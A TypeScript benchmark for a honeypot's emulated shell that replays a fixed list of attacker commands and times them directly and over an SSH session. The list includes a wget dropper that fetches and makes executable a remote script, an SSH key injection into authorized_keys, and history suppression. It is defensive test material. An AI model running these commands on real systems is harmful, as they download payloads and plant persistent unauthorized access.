/**
 * The shell part of the `honeypot` benchmark: a fixed mix of what attackers type, run (a) straight through the
 * emulated shell engine, for the time each command takes, and (b) through one interactive SSH session of the
 * sensor (ssh2 client, pty + shell), for commands per second as an attacker's client sees them.
 */
import ssh2 from 'ssh2';
import { quantile } from './_sensor-child.js';
import { generatePersona } from '../src/honeynet/persona/generate-persona.js';
import { createBaseFs, createShellSession } from '../src/honeynet/shell/session.js';

/** What bots and people type after logging in to a honeypot (recon, droppers, persistence). */
export const SHELL_MIX = [
  'uname -a', 'id', 'whoami', 'cat /proc/cpuinfo | grep name | head -n 1', 'free -m', 'ls -la /etc', 'ps aux',
  'w', 'df -h', 'cat /etc/passwd | grep -v nologin', 'nproc', 'lscpu', 'ip a', 'netstat -tlnp', 'crontab -l',
  'cd /tmp && wget http://203.0.113.7/x.sh && chmod +x x.sh', 'echo "ssh-rsa AAAA... key" >> ~/.ssh/authorized_keys',
  'history', 'export HISTFILE=/dev/null; env | sort', 'top -bn1 | head -5', 'mkdir -p /tmp/.x && cd /tmp/.x && touch a b c && ls',
  'echo cm9vdA== | base64 -d', 'which curl wget python3', 'cat /etc/os-release', 'uptime',
];

export interface ShellFigures {
  commands: number;
  perSecond: number;
  p50Ms: number;
  p99Ms: number;
  maxMs: number;
}

/** The engine alone: `rounds` passes over the mix in one session. */
export function shellEngine(rounds: number): ShellFigures {
  const base = createBaseFs(generatePersona());
  const shell = createShellSession({ base, user: 'root', clientIp: '198.51.100.7', protocol: 'ssh' });
  for (const c of SHELL_MIX) shell.execute(c); // warm-up: lazily built files and JIT
  const ms: number[] = [];
  const t0 = performance.now();
  for (let r = 0; r < rounds; r++) {
    for (const c of SHELL_MIX) {
      const t = performance.now();
      shell.execute(c);
      ms.push(performance.now() - t);
    }
  }
  const total = performance.now() - t0;
  return { commands: ms.length, perSecond: (ms.length / total) * 1000, p50Ms: quantile(ms, 0.5), p99Ms: quantile(ms, 0.99), maxMs: Math.max(...ms) };
}

/** Through one SSH session: send a line, wait for the next prompt, repeat, for `seconds`. */
export function shellOverSsh(port: number, username: string, password: string, seconds: number): Promise<ShellFigures> {
  return new Promise((resolve, reject) => {
    const c = new ssh2.Client();
    c.on('error', reject);
    c.on('ready', () => {
      c.shell({ term: 'xterm-256color', rows: 40, cols: 160 }, (err, stream) => {
        if (err) return reject(err);
        let buf = '';
        let i = 0;
        let sent = 0;
        let started = false;
        const ms: number[] = [];
        const end = Date.now() + seconds * 1000;
        const t0 = performance.now();
        let stall: NodeJS.Timeout | null = null;
        const next = () => {
          buf = '';
          if (stall) clearTimeout(stall);
          stall = setTimeout(() => {
            c.end();
            reject(new Error(`no prompt 10 s after ${JSON.stringify(SHELL_MIX[(i - 1) % SHELL_MIX.length])}; output ends ${JSON.stringify(buf.slice(-200))}`));
          }, 10_000);
          if (Date.now() >= end) {
            clearTimeout(stall);
            const total = performance.now() - t0;
            stream.end('exit\n');
            c.end();
            return resolve({ commands: ms.length, perSecond: (ms.length / total) * 1000, p50Ms: quantile(ms, 0.5), p99Ms: quantile(ms, 0.99), maxMs: Math.max(...ms) });
          }
          sent = performance.now();
          stream.write(`${SHELL_MIX[i++ % SHELL_MIX.length]}\n`);
        };
        stream.on('close', () => {
          if (stall) clearTimeout(stall);
          if (Date.now() < end) reject(new Error(`the session ended after ${ms.length} commands (a session limit?)`));
        });
        stream.on('data', (d: Buffer) => {
          buf += d.toString('latin1');
          if (buf.length > 65_536) buf = buf.slice(-256);
          if (!/[#$] $/.test(buf)) return;
          if (started) ms.push(performance.now() - sent);
          started = true;
          next();
        });
      });
    });
    c.connect({ host: '127.0.0.1', port, username, password, readyTimeout: 10_000 });
  });
}
